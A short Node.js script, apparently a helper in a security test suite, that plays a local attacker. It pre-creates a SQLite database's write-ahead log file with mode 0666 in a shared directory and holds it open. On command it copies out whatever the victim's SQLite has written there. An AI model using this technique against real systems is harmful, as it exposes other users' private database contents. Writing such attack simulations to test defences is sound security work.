// The planted-WAL attacker: a member of the group that shares a directory with the victim
// creates `<db>-wal` mode 0666 before the victim's first write and keeps it open, to read
// whatever SQLite writes into it later.
//
// argv[2]: JSON { file }
// -> { t: "ready" }; on { cmd: "copy", id, to } copies what the open file holds now to `to`
// -> { t: "copied", id, bytes }

import { fchmodSync, fstatSync, openSync, readSync, writeFileSync } from "node:fs";
import { onCommand, send } from "./lib.mjs";

const { file } = JSON.parse(process.argv[2]);
const fd = openSync(file, "w+", 0o666);
fchmodSync(fd, 0o666);

onCommand(async (command) => {
  if (command.cmd !== "copy") return;
  const buffer = Buffer.alloc(fstatSync(fd).size);
  readSync(fd, buffer, 0, buffer.length, 0);
  writeFileSync(command.to, buffer, { mode: 0o644 });
  send({ t: "copied", id: command.id, bytes: buffer.length });
});
send({ t: "ready" });
